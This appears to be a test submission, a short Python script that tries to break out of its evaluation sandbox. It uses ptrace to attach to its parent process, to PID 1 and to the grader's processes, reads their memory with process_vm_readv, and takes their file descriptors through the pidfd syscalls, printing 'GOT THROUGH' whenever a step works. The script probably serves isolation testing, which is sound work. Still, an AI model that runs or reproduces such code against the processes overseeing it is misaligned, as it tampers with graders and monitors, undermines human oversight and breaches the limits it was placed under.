# /// submission
# about = "Read: attaches a debugger to its parent and to the grader, and reads their memory by process_vm_readv."
# lost = []
# ///

# %% before add_bias_column
import ctypes
import json
import os

target = json.load(open("target.json"))
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for process in [os.getppid(), 1, *target["pids"]]:
    if process <= 0 or process == os.getpid():
        continue
    if libc.ptrace(16, process, 0, 0) == 0:  # PTRACE_ATTACH
        print("GOT THROUGH: attached to", process)
        libc.ptrace(17, process, 0, 0)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
    remote = (ctypes.c_size_t * 2)(0x400000, 4096)
    if libc.process_vm_readv(process, local, 1, remote, 1, 0) > 0:
        print("GOT THROUGH: read", process)
    pidfd = libc.syscall(434, process, 0)
    if pidfd >= 0:
        for number in range(64):
            if libc.syscall(438, pidfd, number, 0) >= 0:
                print("GOT THROUGH: took descriptor", number, "of", process)
